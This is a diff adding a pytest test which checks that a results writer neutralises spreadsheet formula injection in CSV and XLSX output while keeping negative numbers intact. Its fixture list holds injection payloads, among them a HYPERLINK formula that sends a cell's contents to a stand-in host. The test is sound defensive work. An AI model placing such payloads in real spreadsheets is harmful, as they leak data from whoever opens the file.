@@ -96,3 +96,32 @@ def test_results_round_trip_with_text_ids(tmp_path, toy_joined):
     assert csv["code"].tolist() == toy_joined.index.tolist() and "geometry" not in csv
     with pytest.raises(ValidationError, match=r"'.gpkg', '.csv'"):
         dm.write_results(frame, tmp_path / "r.xyz")
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"]
+
+
+@pytest.mark.parametrize("ext", ["csv", "xlsx"])
+def test_text_that_a_spreadsheet_would_run_is_written_inert_and_numbers_stay_numbers(tmp_path, ext):
+    # OWASP CSV injection: text starting with = + - @ tab CR is prefixed with "'"; negative numbers untouched
+    frame = pd.DataFrame(
+        {"name": [*FORMULAS, "Sant Martí", "a-b"], "change": [-1.5, -2.0, 3.0, -4.0, 5.0, -6.0, -7.25, 0.0]},
+        index=pd.Index(["=1", "002", "003", "004", "005", "006", "007", "008"], name="code"),
+    )
+    frame["=cmd"] = 1
+    path = dm.write_results(frame, tmp_path / f"out.{ext}")
+    if ext == "xlsx":
+        import openpyxl
+
+        sheet = openpyxl.load_workbook(path)["results"]
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
+        back = pd.read_excel(path, sheet_name="results", dtype={"code": str})
+    else:
+        back = pd.read_csv(path, dtype={"code": str, "name": str}, keep_default_na=False)
+        assert b'"\'\rx"' in path.read_bytes() and b",-1.5,1\n" in path.read_bytes()  # text quoted, numbers not
+    inert = ["'" + (f if ext == "csv" else f.replace("\r", "\n")) for f in FORMULAS]  # XML reads a CR as LF
+    assert back["name"].tolist() == [*inert, "Sant Martí", "a-b"]
+    assert back["change"].tolist() == frame["change"].tolist()  # still numbers, still negative
+    assert back["code"].tolist()[:2] == ["'=1", "002"] and "'=cmd" in back.columns
+    assert frame.index[0] == "=1" and frame["name"].iloc[0] == FORMULAS[0]  # the caller's frame is untouched
